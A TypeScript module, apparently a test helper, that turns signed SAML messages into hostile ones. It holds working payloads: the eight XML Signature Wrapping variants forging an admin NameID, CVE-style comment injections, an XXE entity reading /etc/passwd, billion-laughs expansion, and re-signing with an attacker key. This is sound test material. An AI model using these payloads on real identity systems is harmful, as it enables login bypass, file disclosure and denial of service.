/**
 * Attacks built from real signed SAML messages, by editing the DOM the way published tooling
 * (SAML Raider, the "On Breaking SAML" XSW catalogue) does. Each takes signed XML and returns the
 * hostile XML.
 */
import { DOMParser, XMLSerializer, type Document, type Element, type Node } from '@xmldom/xmldom';
import { NS_ASSERTION, NS_PROTOCOL, newId, signElement, type SigningIdentity } from './test-idp.js';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

export function serialize(doc: Document | Node): string {
  return new XMLSerializer().serializeToString(doc);
}

function children(el: Element): Element[] {
  const out: Element[] = [];
  for (let c = el.firstChild; c !== null; c = c.nextSibling) if (c.nodeType === 1) out.push(c as Element);
  return out;
}

function child(el: Element, ns: string, localName: string): Element | undefined {
  return children(el).find((c) => c.namespaceURI === ns && c.localName === localName);
}

function root(doc: Document): Element {
  const r = doc.documentElement;
  if (r === null) throw new Error('no root');
  return r;
}

function assertionOf(doc: Document): Element {
  const r = root(doc);
  if (r.localName === 'Assertion') return r;
  const a = child(r, NS_ASSERTION, 'Assertion');
  if (a === undefined) throw new Error('no assertion');
  return a;
}

/** The element an XSW variant targets: the (signed) Assertion or the (signed) Response. */
export type XswTarget = 'assertion' | 'response';

function targetOf(doc: Document, target: XswTarget): Element {
  return target === 'assertion' ? assertionOf(doc) : root(doc);
}

function signatureOf(el: Element): Element {
  const s = child(el, DSIG, 'Signature');
  if (s === undefined) throw new Error('target not signed');
  return s;
}

/** The forged content the attacker wants read: another subject, a new ID, no signature. */
function evilCopy(el: Element): Element {
  const evil = el.cloneNode(true) as Element;
  evil.setAttribute('ID', newId());
  const sig = child(evil, DSIG, 'Signature');
  if (sig !== undefined) evil.removeChild(sig);
  setNameId(evil, 'admin@example.com');
  return evil;
}

function setNameId(el: Element, value: string): void {
  const nameIds = el.getElementsByTagNameNS(NS_ASSERTION, 'NameID');
  for (let i = 0; i < nameIds.length; i++) {
    const n = nameIds.item(i);
    const doc = n?.ownerDocument;
    if (n === null || doc === null || doc === undefined) continue;
    while (n.firstChild !== null) n.removeChild(n.firstChild);
    n.appendChild(doc.createTextNode(value));
  }
}

/** The original signed element with its signature removed: what the digest was computed over. */
function unsignedOriginal(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = child(copy, DSIG, 'Signature');
  if (sig !== undefined) copy.removeChild(sig);
  return copy;
}

function replace(el: Element, by: Element): void {
  const parent = el.parentNode;
  if (parent === null) throw new Error('detached');
  parent.replaceChild(by, el);
}

/** The eight XML signature wrapping variants (XSW1–8), each applicable to the assertion or the response. */
export const XSW: Readonly<Record<string, (xml: string, target: XswTarget) => string>> = {
  // XSW1: a forged copy takes the original's place; the original (unsigned) is moved inside the
  // signature, where the Reference still finds it by ID.
  XSW1(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const sig = signatureOf(t);
    const evil = evilCopy(t);
    const original = unsignedOriginal(t);
    const movedSig = sig.cloneNode(true) as Element;
    movedSig.appendChild(original);
    const issuer = child(evil, NS_ASSERTION, 'Issuer');
    evil.insertBefore(movedSig, issuer?.nextSibling ?? evil.firstChild);
    replace(t, evil);
    return serialize(doc);
  },
  // XSW2: as XSW1 with a detached signature: the original sits beside the signature.
  XSW2(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const sig = signatureOf(t);
    const evil = evilCopy(t);
    const original = unsignedOriginal(t);
    const movedSig = sig.cloneNode(true) as Element;
    const issuer = child(evil, NS_ASSERTION, 'Issuer');
    evil.insertBefore(movedSig, issuer?.nextSibling ?? evil.firstChild);
    evil.insertBefore(original, movedSig);
    replace(t, evil);
    return serialize(doc);
  },
  // XSW3: a forged unsigned copy inserted before the signed original (first match wins).
  XSW3(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const evil = evilCopy(t);
    if (t.parentNode === doc) return serialize(evil) + serialize(t); // a second root, as the variant demands
    t.parentNode?.insertBefore(evil, t);
    return serialize(doc);
  },
  // XSW4: a forged copy wraps the signed original.
  XSW4(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const evil = evilCopy(t);
    replace(t, evil);
    evil.appendChild(t);
    return serialize(doc);
  },
  // XSW5: the signed element is altered (new ID, new subject, signature kept); an unsigned copy
  // of the original is appended at the end of the message for the Reference to find.
  XSW5(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const original = unsignedOriginal(t);
    t.setAttribute('ID', newId());
    setNameId(t, 'admin@example.com');
    if (t.parentNode === doc) return serialize(doc) + serialize(original);
    root(doc).appendChild(original);
    return serialize(doc);
  },
  // XSW6: as XSW5, with the original copy inside the altered element's signature.
  XSW6(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const original = unsignedOriginal(t);
    t.setAttribute('ID', newId());
    setNameId(t, 'admin@example.com');
    signatureOf(t).appendChild(original);
    return serialize(doc);
  },
  // XSW7: the signed original hidden in an Extensions element; the forged copy where it was.
  XSW7(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const evil = evilCopy(t);
    const ext = doc.createElementNS(NS_PROTOCOL, 'samlp:Extensions');
    replace(t, evil);
    ext.appendChild(t);
    const holder = target === 'assertion' ? root(doc) : evil;
    holder.insertBefore(ext, holder.firstChild);
    return serialize(doc);
  },
  // XSW8: the original (unsigned) in a ds:Object of the altered element's signature.
  XSW8(xml, target) {
    const doc = parse(xml);
    const t = targetOf(doc, target);
    const original = unsignedOriginal(t);
    t.setAttribute('ID', newId());
    setNameId(t, 'admin@example.com');
    const obj = doc.createElementNS(DSIG, 'ds:Object');
    obj.appendChild(original);
    signatureOf(t).appendChild(obj);
    return serialize(doc);
  },
};

/** CVE-2017-11427 style: a comment splits the signed NameID so a naive reader keeps the first part. */
export function commentInNameId(xml: string): string {
  return xml.replace(/(<saml:NameID[^>]*>[^<]*?)(\.evil\.example)/, '$1<!---->$2');
}

/** CVE-2025-29775 style: a comment inside DigestValue. */
export function commentInDigestValue(xml: string): string {
  return xml.replace(/(<ds:DigestValue>)([^<]{4})/, '$1$2<!---->');
}

/** The assertion's signature removed. */
export function stripAssertionSignature(xml: string): string {
  const doc = parse(xml);
  const a = assertionOf(doc);
  a.removeChild(signatureOf(a));
  return serialize(doc);
}

/** The signed NameID changed after signing. */
export function changeNameIdAfterSigning(xml: string): string {
  const doc = parse(xml);
  setNameId(assertionOf(doc), 'admin@example.com');
  return serialize(doc);
}

/** The signed response's Destination changed after signing. */
export function changeDestinationAfterSigning(xml: string, destination: string): string {
  const doc = parse(xml);
  root(doc).setAttribute('Destination', destination);
  return serialize(doc);
}

/** A second, independently signed assertion added to the response. */
export function addSecondAssertion(xml: string, secondSignedAssertionResponse: string): string {
  const doc = parse(xml);
  const other = assertionOf(parse(secondSignedAssertionResponse));
  root(doc).appendChild(doc.importNode(other, true));
  return serialize(doc);
}

/** A second SignedInfo inside the assertion signature. */
export function twoSignedInfo(xml: string): string {
  const doc = parse(xml);
  const sig = signatureOf(assertionOf(doc));
  const signedInfo = child(sig, DSIG, 'SignedInfo');
  if (signedInfo === undefined) throw new Error('no SignedInfo');
  sig.insertBefore(signedInfo.cloneNode(true), signedInfo);
  return serialize(doc);
}

/**
 * A second KeyInfo in a signature (of the assertion, or of the response), the IdP's own copied
 * after the first: one more place to carry a key, and XML-DSig §4.1 allows at most one.
 */
export function twoKeyInfo(xml: string, target: XswTarget = 'assertion'): string {
  const doc = parse(xml);
  const sig = signatureOf(targetOf(doc, target));
  const keyInfo = child(sig, DSIG, 'KeyInfo');
  if (keyInfo === undefined) throw new Error('no KeyInfo');
  sig.insertBefore(keyInfo.cloneNode(true), keyInfo.nextSibling);
  return serialize(doc);
}

/** Response status replaced after the fact (the response itself unsigned). */
export function withStatus(xml: string, status: string): string {
  const doc = parse(xml);
  const code = root(doc).getElementsByTagNameNS(NS_PROTOCOL, 'StatusCode').item(0);
  code?.setAttribute('Value', status);
  return serialize(doc);
}

/** An XML declaration and a DOCTYPE with an external entity referenced in the NameID. */
export function externalEntity(xml: string): string {
  const body = xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&xxe;');
  return `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body}`;
}

/** Billion laughs: nested internal entities. */
export function entityExpansion(xml: string): string {
  const defs = ['<!ENTITY lol "lol">'];
  for (let i = 1; i < 10; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  const body = xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&lol9;');
  return `<!DOCTYPE samlp:Response [${defs.join('')}]>${body}`;
}

/** Re-signs a tampered document with an attacker key (its certificate in KeyInfo). */
export function resign(xml: string, localName: 'Assertion' | 'Response', keys: SigningIdentity): string {
  return signElement(xml, localName, keys);
}
